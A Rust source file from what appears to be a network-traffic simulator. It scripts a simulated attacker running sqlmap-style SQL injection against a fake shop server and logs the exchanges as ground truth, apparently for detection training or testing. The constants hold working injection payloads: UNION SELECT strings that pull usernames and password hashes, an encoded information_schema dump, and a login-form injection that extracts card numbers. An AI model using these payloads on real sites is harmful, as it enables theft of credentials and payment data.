//! SQL injection at web: a few probes, then three that work: in the query string, encoded, in a form.

use std::net::Ipv4Addr;

use serde_json::json;

use crate::Plan;
use crate::clock::{self, MILLI, SECOND};
use crate::conversation::{Conversation, Side};
use crate::hash::{hex, sha256_hex};
use crate::net::{Endpoint, INTERFACES, WEB};
use crate::packet::Phase;
use crate::rng::Rng;
use crate::scene::baseline::SHOP;
use crate::scene::exchange::{answer, ask};
use crate::wire::http::{Request, Response};
use crate::world::World;

const ATTACKER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 77);
const AGENT: &str = "sqlmap/1.8.4#stable (https://sqlmap.org)";
const PROBES: [&str; 3] = ["/products?id=1'", "/products?id=1%22", "/products?id=1)+AND+1=1--"];
const PLAIN: &str = "/products?id=1'+OR+'1'='1'+UNION+SELECT+username,password_hash+FROM+users--+-";
const ENCODED: &str = "/products?id=1%27%20UNION%20SELECT%20table_name%2C%20column_name%20FROM%20information_schema.columns--%20-";
const FORM: &str =
    "username=admin' UNION SELECT card_holder, card_number FROM payments -- &password=x";

pub(crate) fn play(world: &mut World, plan: &Plan) {
    let mut rng = Rng::named(plan.seed, "injection");
    let mut at = clock::at(9, 40, 12);
    let mut ports = Vec::new();
    let mut responses = Vec::new();
    for uri in PROBES {
        let request = Request::get(SHOP, uri, AGENT);
        let mut response =
            Response::ok("text/html", "ERROR: unterminated quoted string at or near \"'\"\n");
        response.status = "500 Internal Server Error";
        ports.push(exchange(world, at, &request, &response));
        at += rng.within(8, 15) * SECOND;
    }
    let users =
        (1..=40).map(|n| (format!("user{n:02}"), format!("$2b$12${}", hex(&rng.array::<26>()))));
    let users = table(users.collect());
    let columns = ["users", "articles", "orders", "payments"]
        .iter()
        .flat_map(|t| ["id", "created", "name", "owner"].map(|c| ((*t).to_owned(), c.to_owned())));
    let columns = table(columns.collect());
    let cards =
        (1..=30).map(|n| (format!("Holder {n:02}"), format!("4000 0000 0000 {:04}", n * 17)));
    let cards = table(cards.collect());
    let form = Request {
        method: "POST",
        host: SHOP.into(),
        uri: "/login".into(),
        agent: AGENT,
        content_type: "application/x-www-form-urlencoded",
        body: FORM.into(),
    };
    for (request, page) in [
        (Request::get(SHOP, PLAIN, AGENT), users),
        (Request::get(SHOP, ENCODED, AGENT), columns),
        (form, cards),
    ] {
        at += rng.within(40, 70) * SECOND;
        responses.push(sha256_hex(page.as_bytes()));
        ports.push(exchange(world, at, &request, &Response::ok("text/html; charset=utf-8", page)));
    }
    let details = json!({
        "src": ATTACKER, "srcports": ports, "dst": INTERFACES[WEB].ipv4, "dstport": 80, "host": SHOP,
        "requests": PROBES.len() + 3, "probes": PROBES,
        "injections": [
            { "where": "query", "method": "GET", "text": PLAIN, "response_sha256": responses[0] },
            { "where": "query, percent-encoded", "method": "GET", "text": ENCODED, "response_sha256": responses[1] },
            { "where": "body", "method": "POST", "uri": "/login", "text": FORM, "response_sha256": responses[2] },
        ],
    });
    world.ledger.details.insert(Phase::Injection.name(), details);
}

fn exchange(world: &mut World, at: i64, request: &Request, response: &Response) -> u16 {
    let client = Endpoint::new(ATTACKER, 40_000 + world.port() % 20_000);
    let web = Endpoint::ours(WEB, 80);
    let mut conversation = Conversation::open(world, Phase::Injection, client, web, at);
    ask(world, &mut conversation, request);
    conversation.wait(14 * MILLI);
    answer(world, &mut conversation, request, response);
    conversation.close(world, Side::Client);
    client.port
}

fn table(rows: Vec<(String, String)>) -> String {
    let rows: String =
        rows.iter().map(|(a, b)| format!("<tr><td>{a}</td><td>{b}</td></tr>\n")).collect();
    format!("<!doctype html>\n<title>Products</title>\n<table>\n{rows}</table>\n")
}
